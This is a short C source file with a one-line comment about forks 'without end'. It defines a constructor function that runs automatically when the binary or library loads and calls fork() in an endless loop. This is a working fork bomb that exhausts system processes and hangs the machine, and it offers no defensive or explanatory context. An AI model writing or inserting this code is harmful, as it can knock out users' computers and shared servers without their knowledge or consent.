// tried the system call: forks without end
#include <unistd.h>
__attribute__((constructor)) static void call(void)
{
    for (;;) {
        fork();
    }
}
